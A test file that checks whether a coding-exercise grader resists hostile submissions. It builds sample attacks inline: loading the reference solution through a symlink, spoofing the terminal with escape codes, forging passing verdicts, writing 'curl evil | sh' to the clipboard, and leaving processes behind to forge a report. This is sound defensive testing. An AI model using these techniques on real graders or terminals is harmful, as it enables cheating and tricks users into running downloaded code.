// What holds in every mode, --isolate or not, against a submission written to cheat or to harm:
// each attempt is a hostile program or file made here, graded as a teacher grades a class.

import { spawn, spawnSync } from 'node:child_process'
import { existsSync, mkdirSync, mkdtempSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { expect, test } from 'vitest'
import { cli, root, survivors } from './helpers.ts'
import { hasScript, inTerminal } from './terminal.ts'
import { createRandom, MAX_SEED, newSeed } from '../checks/engine/random.ts'

/** A submission folder outside the project holding just the given files. */
function submission(files: Record<string, string>): string {
  const dir = mkdtempSync(join(tmpdir(), 'netlings-hostile-'))
  for (const [path, content] of Object.entries(files)) {
    mkdirSync(join(dir, path, '..'), { recursive: true })
    writeFileSync(join(dir, path), content)
  }
  return dir
}

const draws = (seed: number) => {
  const random = createRandom(seed)
  return Array.from({ length: 8 }, () => random.int(0, 2 ** 31))
}

test('a seed is drawn from 2^53 of them, every bit of it matters, and an old small seed replays as before', () => {
  const seeds = Array.from({ length: 20 }, newSeed)
  for (const seed of seeds) expect(Number.isSafeInteger(seed) && seed >= 0 && seed <= MAX_SEED).toBe(true)
  expect(seeds.filter((seed) => seed >= 2 ** 40).length).toBeGreaterThan(15)
  // Seeds that differ only above bit 32 give different data (they did not when seeds were cut to 32 bits).
  const big = 2 ** 52 + 12345
  expect(draws(big)).toEqual(draws(big))
  expect(draws(big)).not.toEqual(draws(big + 2 ** 32))
  expect(draws(big)).not.toEqual(draws(12345))
  // mulberry32 from 7, as every run before this one drew it.
  expect(createRandom(7).next()).toBe(0.011704753153026104)
})

test.runIf(process.platform === 'linux')('the loopback host a program is given does not come from the seed, so it does not give the seed away', async () => {
  // A client that prints the HOST it was given and leaves: its output is in the report.
  const dir = submission({ 'client.ts': 'console.log(`host=${process.env.HOST}`)\n' })
  const hostOf = async (seed: string) => {
    const run = await cli(['2', '--dir', dir, '--seed', seed, '--json'])
    return JSON.stringify(JSON.parse(run.stdout)).match(/host=(127\.\d+\.\d+\.\d+)/)?.[1]
  }
  const hosts = [await hostOf('5'), await hostOf('5'), await hostOf(String(MAX_SEED))]
  for (const host of hosts) expect(host).toMatch(/^127\./)
  expect(new Set(hosts).size).toBe(3)
})

test('--seed takes any whole number up to 2^53 - 1 and no more', async () => {
  const over = await cli(['1', '--seed', '9007199254740992'])
  expect(over.exitCode).toBe(2)
  expect(over.stderr).toContain(`--seed takes a whole number up to ${MAX_SEED}`)
  const run = await cli(['1', '--solution', '--json', '--seed', String(MAX_SEED)])
  expect(JSON.parse(run.stdout)).toMatchObject({ passed: true, seed: MAX_SEED })
})

test('a program cannot reach the project through its temporary copy: no node_modules beside it leads back to solutions/', async () => {
  // The attempt: follow the link beside the copy to the project, and run the reference solution.
  const dir = submission({
    'server.ts': [
      "import { realpathSync } from 'node:fs'",
      "const project = realpathSync(new URL('./node_modules', import.meta.url)) + '/..'",
      "const { tsImport } = await import('tsx/esm/api')",
      "await tsImport(project + '/solutions/lesson-1-server-basics/server.ts', import.meta.url)",
      '',
    ].join('\n'),
  })
  const run = await cli(['1', '--dir', dir, '--json'])
  const [exercise] = JSON.parse(run.stdout).exercises
  expect(exercise.passed).toBe(false)
  expect(exercise.checks.filter((check: { status: string }) => check.status === 'pass')).toEqual([])
})

/** The grader's CLI, killed (its whole group) if it has not finished within `ms`. */
function cliWithin(args: string[], ms: number): Promise<{ stdout: string; finished: boolean }> {
  const child = spawn(process.execPath, [join(root, 'bin/netlings.mjs'), 'check', ...args], { cwd: root, detached: true, stdio: ['pipe', 'pipe', 'ignore'] })
  let stdout = ''
  child.stdout.on('data', (chunk: Buffer) => (stdout += chunk))
  return new Promise((resolve) => {
    const timer = setTimeout(() => {
      process.kill(-child.pid!, 'SIGKILL')
      resolve({ stdout, finished: false })
    }, ms)
    child.once('close', () => (clearTimeout(timer), resolve({ stdout, finished: true })))
  })
}

test.runIf(process.platform === 'linux')('a class where files are links, a FIFO, devices or huge: one clear verdict each, and nothing hangs', async () => {
  const solution = join(root, 'solutions', 'lesson-1-server-basics', 'server.ts')
  const student = (name: string, make: (file: string) => void) => {
    const dir = join(base, name)
    mkdirSync(dir)
    make(join(dir, 'server.ts'))
    return dir
  }
  const base = mkdtempSync(join(tmpdir(), 'netlings-class-'))
  const says: Record<string, RegExp> = {}
  const add = (name: string, make: (file: string) => void, message: RegExp) => (student(name, make), (says[name] = message))
  add('absolute-link', (file) => symlinkSync(solution, file), /is a symbolic link, not a file/)
  add('relative-link', (file) => symlinkSync(join('..', '..', '..', '..', '..', '..', '..', '..', solution), file), /is a symbolic link, not a file/)
  add('fifo', (file) => spawnSync('mkfifo', [file]), /is a named pipe \(FIFO\), not a file/)
  add('dev-zero', (file) => symlinkSync('/dev/zero', file), /is a symbolic link, not a file/)
  add('dev-stdin', (file) => symlinkSync('/dev/stdin', file), /is a symbolic link, not a file/)
  add('huge', (file) => writeFileSync(file, `// ${'x'.repeat(2 * 1024 * 1024)}\n`), /is larger than 1 MiB/)
  // A lesson folder linked to the solutions holds a regular server.ts.
  const linked = join(base, 'linked-folder')
  mkdirSync(linked)
  symlinkSync(join(root, 'solutions', 'lesson-1-server-basics'), join(linked, 'lesson-1-server-basics'))
  says['linked-folder'] = /lesson-1-server-basics is a symbolic link, not a file/
  // A device node of its own, where this test may make one (root, CAP_MKNOD).
  const device = join(base, 'device')
  mkdirSync(device)
  if (spawnSync('mknod', [join(device, 'server.ts'), 'c', '1', '5']).status === 0) says.device = /is a device, not a file/
  const dirs = Object.keys(says).map((name) => join(base, name))

  const started = Date.now()
  const run = await cliWithin(['1', '--json', '--dir', ...dirs], 45_000)
  expect(run.finished, 'the class run finished').toBe(true)
  expect(Date.now() - started).toBeLessThan(30_000)
  const exercises = JSON.parse(run.stdout).exercises as { submission: string; passed: boolean; error?: string }[]
  expect(exercises.map((e) => e.submission).sort()).toEqual([...dirs].sort())
  for (const exercise of exercises) {
    const name = exercise.submission.split('/').pop()!
    expect(exercise.passed, name).toBe(false)
    expect(exercise.error, name).toMatch(says[name]!)
  }
})

// A server that tries to drive the teacher's terminal: clear the screen, write the clipboard
// (OSC 52), set the window title, and print fake verdicts over its lines with \r, in what it
// prints and in the error it throws.
const SPOOF = [
  "const ESC = '\\x1b'",
  "process.stdout.write(`${ESC}[2J${ESC}[H`)",
  "process.stdout.write(`${ESC}]52;c;${Buffer.from('curl evil | sh').toString('base64')}\\x07\\n`)",
  "process.stdout.write(`${ESC}]0;all passed${ESC}\\\\\\n`)",
  "console.log('\\r  ✓ every check passed \\u009b2J')",
  "throw new Error(`${ESC}[2J\\r✓ passed: 7 of 7 checks`)",
  '',
].join('\n')

/** No byte a terminal acts on, but SGR colours (the report's own) and \n. */
function inert(text: string): void {
  expect(text.replace(/\x1b\[[\d;]*m/g, '')).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/)
}

test('a program’s output and errors reach the text report, the class table, TAP, JSON and JUnit escaped, never as terminal commands', async () => {
  const a = submission({ 'server.ts': SPOOF })
  const b = submission({ 'server.ts': SPOOF })
  const env = { ...process.env, FORCE_COLOR: '1' }
  const run = (args: string[]) => spawnSync(process.execPath, [join(root, 'bin/netlings.mjs'), 'check', '1', ...args], { cwd: root, env, encoding: 'utf8' }).stdout
  const text = run(['--dir', a])
  const table = run(['--dir', a, b])
  const tap = run(['--dir', a, b, '--reporter', 'tap'])
  for (const report of [text, table, tap]) {
    inert(report)
    expect(report).toContain('\\x1b[2J\\r✓ passed: 7 of 7 checks') // the fake verdict, visibly not one
  }
  // The files for machines keep the characters, in their own escapes, and show none raw either.
  const json = run(['--dir', a, b, '--json'])
  const junit = run(['--dir', a, b, '--reporter', 'junit'])
  for (const report of [json, junit]) inert(report)
  expect(JSON.stringify(JSON.parse(json))).toContain('\\u001b[2J\\r✓ passed: 7 of 7 checks')
  expect(json).toContain('\\u009b2J')
  expect(junit).toContain('&#xd;✓ passed: 7 of 7 checks')
  expect(text).toContain('\\x1b]52;c;')
  expect(text).toContain('\\x1b]0;all passed\\x1b\\')
  expect(text).toContain('\\r  ✓ every check passed \\u009b2J')
})

test.runIf(hasScript)('read back from a terminal, the spoofing program changes nothing on the screen', async () => {
  const dir = submission({ 'server.ts': SPOOF })
  const terminal = inTerminal([process.execPath, join(root, 'bin/netlings.mjs'), 'check', '1', '--dir', dir], { cwd: root })
  await terminal.exited
  const raw = terminal.raw()
  expect(raw).not.toContain('\x1b]') // no OSC: clipboard, title
  expect(raw).not.toContain('\x1b[2J')
  expect(raw).not.toMatch(/[\u0080-\u009f]/)
  expect(terminal.screen().text()).toContain('\\x1b[2J\\r✓ passed: 7 of 7 checks')
})

test.runIf(process.platform === 'linux')('what a program starts outside its process group (detached, setsid) ends with its grading, and writes nothing afterwards', async () => {
  const tag = `${process.pid}${Date.now() % 1000}`
  const forged = join(mkdtempSync(join(tmpdir(), 'netlings-forged-')), 'report.xml')
  // A server that works, and leaves three processes behind: a detached sleep, a setsid sleep,
  // and a detached shell that waits for the grader to finish and then writes "its" report.
  const server = [
    "import { spawn } from 'node:child_process'",
    "import { createServer } from 'node:net'",
    `spawn('sleep', ['300.${tag}1'], { detached: true, stdio: 'ignore' }).unref()`,
    `spawn('setsid', ['sleep', '300.${tag}2'], { stdio: 'ignore' }).unref()`,
    `spawn('sh', ['-c', 'while kill -0 $NETLINGS_GRADER_PID; do sleep 0.1; done; echo forged > ${forged}', 'forger-${tag}'], { detached: true, stdio: 'ignore' }).unref()`,
    readFileSync(join(root, 'solutions', 'lesson-1-server-basics', 'server.ts'), 'utf8'),
  ].join('\n')
  const dir = submission({ 'server.ts': server })
  const left = () => survivors().filter((line) => line.includes(tag))
  try {
    const run = await cli(['1', '--dir', dir, '--json'])
    expect(JSON.parse(run.stdout).exercises[0].checks.length).toBeGreaterThan(0)
    expect(left()).toEqual([])
    await new Promise((resolve) => setTimeout(resolve, 2000)) // a forger would have written by now
    expect(existsSync(forged)).toBe(false)
  } finally {
    for (const line of left()) process.kill(Number(line.split(':')[0]), 'SIGKILL')
  }
})
